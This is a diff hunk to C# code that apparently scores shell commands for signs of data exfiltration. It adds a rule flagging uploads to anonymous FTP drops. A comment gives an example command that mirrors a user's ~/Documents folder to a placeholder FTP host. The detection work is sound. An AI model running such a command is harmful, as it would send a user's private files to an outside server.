@@ -200,6 +200,11 @@ internal static class TransferCommand
             reasons.Add(("with a configuration taken from a temporary folder", 0.3)); // "--config /tmp/r.conf": a destination set up by someone else
         }
 
+        if (tool == Tool.Drop && found.Weight < 0.9 && own.Contains("anonymous", StringComparison.OrdinalIgnoreCase))
+        {
+            reasons.Add(("to an anonymous drop anyone can log in to", 0.3)); // "lftp -u anonymous, -e \"mirror -R ~/Documents /incoming\" ftp.x.example"
+        }
+
         foreach (var flag in QuietFlags)
         {
             if (command.Contains(flag, StringComparison.OrdinalIgnoreCase) || command.EndsWith(flag.TrimEnd(), StringComparison.OrdinalIgnoreCase))
